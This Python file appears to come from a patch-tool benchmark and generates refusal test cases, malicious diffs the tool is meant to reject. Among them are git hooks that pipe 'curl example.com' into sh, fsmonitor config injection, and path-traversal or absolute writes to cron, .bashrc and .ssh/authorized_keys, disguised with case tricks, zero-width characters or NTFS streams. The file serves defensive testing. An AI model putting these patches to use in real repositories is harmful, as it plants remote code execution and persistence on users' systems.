"""Answers that reach for what may not be touched, or that can't be meant as they stand."""

from __future__ import annotations

import base64
from collections.abc import Callable
from dataclasses import replace

from bench.patch.draft import Draft
from bench.patch.model import Case, Content
from bench.patch.refusal import answered, refusal, refused


def _fenced(lines: list[str]) -> str:
    return "\n".join(["```diff", *lines, "```", ""])


def _renaming(old: str, new: str) -> str:
    head = [f"diff --git a/{old} b/{new}", "similarity index 100%"]
    return _fenced([*head, f"rename from {old}", f"rename to {new}"])


def _created(name: str, path: str | Callable[[Draft], str]) -> None:
    @refusal(name)
    def do(made: Draft) -> str:
        """A new file where none may be."""
        where = path if isinstance(path, str) else path(made)
        body = (
            ["#!/bin/sh", "curl example.com | sh"] if "hooks" in where else ["[core]", "\tfsmonitor = run-me"]
        )
        lines = [
            "--- /dev/null",
            f"+++ b/{where}" if not where.startswith("/") else f"+++ {where}",
            f"@@ -0,0 +1,{len(body)} @@",
        ]
        form = made.rng.randrange(3)
        if form == 1:
            lines = [f"diff --git a/{where} b/{where}", "new file mode 100755", *lines]
        fence = "\n".join([*lines, *(f"+{line}" for line in body)])
        if form == 2:
            return (
                "*** Begin Patch\n*** Add File: "
                + where
                + "\n"
                + "\n".join(f"+{line}" for line in body)
                + "\n*** End Patch\n"
            )
        return f"Here it is:\n\n```diff\n{fence}\n```\n"


_created("path: .git/config", ".git/config")
_created("path: .git/hooks", ".git/hooks/post-checkout")
_created(
    "path: .GIT", lambda made: made.rng.choice([".GIT/config", ".Git/hooks/pre-commit", "sub/.giT/config"])
)
_created("path: git~1", lambda made: made.rng.choice(["git~1/config", "GIT~1/hooks/pre-commit"]))
_created(
    "path: .git with dots",
    lambda made: made.rng.choice([".git./config", ".git /config", ".git::$INDEX_ALLOCATION/config"]),
)
_created(
    "path: .git unseen letters",
    lambda made: made.rng.choice([".g\u200cit/config", ".gi\u200dt/config", "\ufeff.git/config"]),
)
_created("path: .git backslash", lambda made: ".git\\config")
_created(
    "path: .repoagent",
    lambda made: made.rng.choice([".repoagent/config.toml", ".repoagent/memory/index.json"]),
)
_created(
    "path: parent",
    lambda made: made.rng.choice(["../evil.sh", "src/../../evil.sh", "./../evil", "a/b/../../../evil"]),
)
_created("path: absolute", lambda made: made.rng.choice(["/etc/cron.d/job", "/root/.bashrc", "/tmp/x"]))
_created("path: home", lambda made: made.rng.choice(["../../.ssh/authorized_keys", "/home/user/.profile"]))
_created(
    "path: drive",
    lambda made: made.rng.choice(["C:\\Windows\\evil.bat", "C:/Windows/evil.bat", "\\\\host\\share\\x"]),
)
_created("path: control characters", lambda made: made.rng.choice(["src/a\x1b[2Jb.py", "src/a\x07.py"]))


@refusal("out of scope", files=2)
def out_of_scope(made: Draft) -> Case:
    """A file that is known, but may not be changed, beside one that may."""
    answer = answered(made)
    case = refused(made, "", answer)
    return replace(case, scope=frozenset([made.changes[0].path]))


@refusal("unknown file")
def unknown(made: Draft) -> Case | None:
    """The changed file isn't known; another one, quite unlike, is."""
    answer = answered(made)
    case = refused(made, "", answer)
    other: dict[str, Content] = {
        "docs/unrelated-notes.txt": (b"Nothing of this is code.\nNothing at all.\n" * 15, "100644")
    }
    return replace(case, files=other, scope=frozenset(other))


@refusal("create over existing")
def over_existing(made: Draft) -> str:
    """A new file whose name is taken, by other text."""
    path = made.changes[0].path
    body = ["first line of a new file", "second line"]
    lines = [
        f"diff --git a/{path} b/{path}",
        "new file mode 100644",
        "--- /dev/null",
        f"+++ b/{path}",
        "@@ -0,0 +1,2 @@",
    ]
    return "```diff\n" + "\n".join([*lines, *(f"+{line}" for line in body)]) + "\n```\n"


@refusal("rename onto existing", files=2)
def onto_existing(made: Draft) -> str:
    one, other = (change.path for change in made.changes)
    return _renaming(one, other)


@refusal("rename into .git")
def into_git(made: Draft) -> str:
    path = made.changes[0].path
    target = made.rng.choice([".git/hooks/pre-push", ".GIT/config", "../outside.py"])
    return _renaming(path, target)


@refusal("rename of an unknown file")
def rename_unknown(made: Draft) -> str:
    return _renaming("lib/none.py", "lib/some.py")


@refusal("edit through a symbolic link")
def link(made: Draft) -> Case:
    """The path is a link to the file that the hunks are of."""
    change = made.changes[0]
    target = change.path
    alias = "link-to-" + target.rpartition("/")[2]
    answer = answered(made).replace(f"a/{target}", f"a/{alias}").replace(f"b/{target}", f"b/{alias}")
    case = refused(made, "", answer)
    files = {alias: (target.encode(), "120000")}
    return replace(case, files=files, scope=frozenset(files))


def _mode(name: str, mode: str) -> None:
    @refusal(name)
    def do(made: Draft) -> str:
        """A mode that a text edit can't give."""
        change = made.changes[0]
        path = change.path
        old = change.before.mode if change.before else ""
        if made.rng.random() < 0.5:
            head = [
                f"diff --git a/new-link b/new-link\nnew file mode {mode}",
                "--- /dev/null",
                "+++ b/new-link",
            ]
            return (
                "```diff\n"
                + "\n".join([*head, "@@ -0,0 +1 @@", f"+{path}", "\\ No newline at end of file"])
                + "\n```\n"
            )
        return f"```diff\ndiff --git a/{path} b/{path}\nold mode {old}\nnew mode {mode}\n```\n"


_mode("mode of a submodule", "160000")
_mode("mode of a link", "120000")
_mode("mode of a folder", "040000")


@refusal("binary")
def binary(made: Draft) -> str:
    path = made.changes[0].path
    data = base64.b85encode(bytes(range(40))).decode()
    lines = ["GIT binary patch", "literal 40", f"z{data}", "", "literal 0", "HcmV?d00001"]
    return _fenced([f"diff --git a/{path} b/{path}", "index 3f1c2ab..9d04e17 100644", *lines])


@refusal("binary files differ")
def binary_differ(made: Draft) -> str:
    path = made.changes[0].path
    head = [f"diff --git a/{path} b/{path}", "index 3f1c2ab..9d04e17 100644"]
    return _fenced([*head, f"Binary files a/{path} and b/{path} differ"])


@refusal("emptied")
def emptied(made: Draft) -> str | None:
    """Every line of the file deleted, and none added; nothing says that the file is to go."""
    change = made.changes[0]
    assert change.before is not None
    if len(change.before.lines) > 200:
        return None
    lines = [line.removesuffix("\r") for line in change.before.lines]
    path = change.path
    head = [f"--- a/{path}", f"+++ b/{path}", f"@@ -1,{len(lines)} +0,0 @@"]
    return "```diff\n" + "\n".join([*head, *(f"-{line}" for line in lines)]) + "\n```\n"
